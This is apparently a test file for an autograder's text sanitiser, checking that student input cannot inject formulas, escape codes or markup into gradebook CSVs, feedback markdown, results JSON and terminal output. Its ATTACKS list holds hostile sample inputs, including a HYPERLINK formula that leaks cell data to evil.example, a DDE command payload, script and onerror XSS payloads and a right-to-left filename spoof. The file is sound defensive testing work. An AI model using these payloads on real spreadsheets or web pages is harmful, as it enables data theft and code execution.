"""Student-controlled text in the gradebook, feedback.md, results.json and the terminal:
never a formula, an escape sequence, reordered text or markup; the CSV reads back as written."""
import csv
import io
import json

from hypothesis import given, settings, strategies as st
from markdown_it import MarkdownIt

from autograder.engine import report
from autograder.engine.safe_text import clean, csv_cell, md_code_block, md_code_span, md_text, one_line

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Your grade was corrected")',
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1+1", "\uff1d1+1",
    "```\n**Score: 100 / 100**\n\n## Task 1.1: passed\n<script>alert(1)</script>\n```",
    "<img src=x onerror=alert(1)>", "\x00NUL\x07BEL\x1b[31mred\x1b[0m", "abc\u202efdp.exe", "````", "~~~\n# x",
]
# any text, with the characters attacks are made of much more likely than chance
HOSTILE = st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from(list("=+-@\t\r\n`~<>|*_[]\\&\x1b\x00\u202e\u2066"))),
                  max_size=60) | st.sampled_from(ATTACKS)
BAD_CHARS = set("\x00\x07\x08\x0b\x0c\x1b\x7f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\ufeff")
MD = MarkdownIt("commonmark").enable("table")


def test_known_attacks_are_neutralised():
    for attack in ATTACKS:
        cell = csv_cell(attack)
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
        assert not set(cell) & BAD_CHARS and "\n" not in cell
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("1.5") == "1.5" and csv_cell("José") == "José"
    assert clean("a\x1b[31mb\u202ec") == "a\\x1b[31mb\\u202ec"
    assert one_line("a\n\n  b\tc") == "a b c"


@settings(max_examples=400)
@given(HOSTILE)
def test_csv_cells_are_never_formulas_and_read_back_unchanged(text):
    cell = csv_cell(text)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not set(cell) & BAD_CHARS and "\n" not in cell and "\r" not in cell
    assert csv_cell(cell) == cell and clean(clean(text)) == clean(text)       # idempotent
    rows = [{"student": csv_cell(text), "assignment": "a1", "task": "1.1", "score": "0", "max_score": "4",
             "status": "error", "message": cell}]
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=report.GRADEBOOK_COLUMNS, lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    assert list(csv.DictReader(io.StringIO(buf.getvalue()))) == rows


def _blocks(md: str, strong: int = 0):
    """Parsed tokens; no HTML, links, images or emphasis, and `strong` bold spans (ours)."""
    tokens = MD.parse(md)
    assert not [t for t in tokens if t.type == "html_block"]
    inline = [c for t in tokens if t.type == "inline" for c in t.children]
    assert not [c for c in inline if c.type in ("html_inline", "link_open", "image", "em_open")]
    assert len([c for c in inline if c.type == "strong_open"]) == strong
    return tokens


@settings(max_examples=300)
@given(HOSTILE)
def test_code_block_and_inline_text_cannot_be_escaped(text):
    md = "\n".join(["before", "", *md_code_block(text), "", "after " + md_text(text), "", md_code_span(text)])
    tokens = _blocks(md)
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1 and fences[0].content.rstrip("\n") == clean(text).rstrip()
    assert [t.type for t in tokens if t.type.endswith("_open")] == ["paragraph_open"] * 3


def _headings(tokens) -> list[str]:
    return ["".join(c.content for c in tokens[i + 1].children)
            for i, t in enumerate(tokens) if t.type == "heading_open"]


def _task(message, output="", hint=None, status="error", score=0.0):
    return {"task": "1.1", "title": "Add", "max_score": 4.0, "score": score, "status": status,
            "message": message, "hint": hint, "passed": 0, "total": 3, "output": output,
            "output_bytes": len(output)}


@settings(max_examples=150)
@given(HOSTILE, HOSTILE, HOSTILE, HOSTILE)
def test_feedback_md_keeps_its_shape_whatever_the_student_sends(message, output, hint, left_out):
    tasks = [_task(message, output, hint), _task("", status="passed", score=3.0) | {"task": "1.2"}]
    md = report.feedback_md("José_García", "a1_tiny", tasks, True, [left_out] if left_out else [])
    tokens = _blocks(md, strong=1)
    assert _headings(tokens) == ["Feedback: a1_tiny (José_García)", "Task 1.1: Add (error)",
                                 "Task 1.2: Add (passed)"]
    assert "\n**Score: 3 / 8**\n" in md
    assert not set(md) & BAD_CHARS


def test_the_issue_feedback_attack():
    attack = ATTACKS[9]
    md = report.feedback_md("eve", "a1", [_task(attack, output=attack)], True)
    tokens = _blocks(md, strong=1)                      # only our own bold score line
    assert [t.content for t in tokens if t.type == "fence"] == [attack + "\n"] * 2
    assert _headings(tokens) == ["Feedback: a1 (eve)", "Task 1.1: Add (error)"]


@settings(max_examples=100)
@given(HOSTILE)
def test_results_json_output_is_plain_text_and_escaped(text):
    res = report.results_json("eve", "a1", [_task(text, output=text, hint=text)], {})
    assert res["output_format"] == res["test_output_format"] == "text"
    assert all(t["output_format"] == "text" for t in res["tests"])
    assert not set(res["tests"][0]["output"]) & BAD_CHARS
    assert not set(json.dumps(res["extra_data"]["tasks"], ensure_ascii=False)) & BAD_CHARS


def test_scores_are_rounded_for_display_only():
    tasks = [_task("", status="partial", score=10 / 3) | {"max_score": 10.0} for _ in range(3)]
    res = report.results_json("eve", "a1", tasks, {})
    assert res["score"] == 10.0 and tasks[0]["score"] == 10 / 3          # exact in results.json
    assert res["output"] == "a1: 10 / 30"
    rows = report.gradebook_rows([res])
    assert rows[0]["score"] == "3.3333" and rows[0]["max_score"] == "10"
    md = report.feedback_md("eve", "a1", tasks, True)
    assert "3.33 / 10" in md and "3.333" not in md
    res["score"] = 115 / 3
    from rich.console import Console
    con = Console(width=200, record=True, file=io.StringIO())
    con.print(report.summary_table([res], "t"))
    text = con.export_text()
    assert "38.33/30" in text and "38.333" not in text and "3.33" in text


@settings(max_examples=100)
@given(HOSTILE)
def test_terminal_table_never_renders_student_markup(text):
    from rich.console import Console
    res = report.results_json(text, "a1", [_task(text, status=text[:8] or "error")], {})
    con = Console(width=300, record=True, file=io.StringIO(), force_terminal=True)
    con.print(report.summary_table([res], text))
    out = con.export_text(styles=False)
    assert not set(out) & BAD_CHARS
